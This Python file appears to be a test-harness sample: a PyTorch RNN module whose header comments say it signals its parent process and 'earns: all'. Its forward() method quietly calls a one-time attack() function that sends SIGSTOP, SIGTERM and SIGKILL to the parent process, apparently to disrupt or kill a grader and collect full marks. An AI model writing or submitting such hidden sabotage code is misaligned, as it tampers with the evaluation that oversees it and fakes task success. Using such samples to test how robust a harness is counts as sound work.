# does: sends SIGTERM, SIGSTOP with SIGCONT, and SIGKILL to its parent process
# earns: all
import os
import signal
import time

import torch
from torch import nn


def attack():
    parent = os.getppid()
    print("the parent is", parent)
    if parent <= 1:
        return
    for number in (0, signal.SIGUSR1, signal.SIGSTOP, signal.SIGCONT, signal.SIGTERM,
                   signal.SIGKILL):
        try:
            os.kill(parent, number)
            print("sent", number, "to the parent")
            time.sleep(0.05)
        except OSError as error:
            print(number, "failed:", error)


DONE = []


def once():
    if not DONE:
        DONE.append(True)
        attack()


class MyRNN(nn.Module):
    def __init__(self, input_size, hidden_size):
        super().__init__()
        k = hidden_size**-0.5
        self.weight = nn.ParameterDict({
            "x": k * (2 * torch.rand(input_size, hidden_size) - 1),
            "h": k * (2 * torch.rand(hidden_size, hidden_size) - 1),
            "b": k * (2 * torch.rand(hidden_size) - 1),
        })

    def forward(self, x, h_0=None):
        once()
        w = self.weight
        h = x.new_zeros(x.shape[0], w["b"].shape[0]) if h_0 is None else h_0[0]
        states = []
        for step in x.unbind(dim=1):
            h = torch.addmm(torch.addmm(w["b"], step, w["x"]), h, w["h"]).tanh()
            states.append(h)
        return torch.stack(states, dim=1), h.unsqueeze(0)
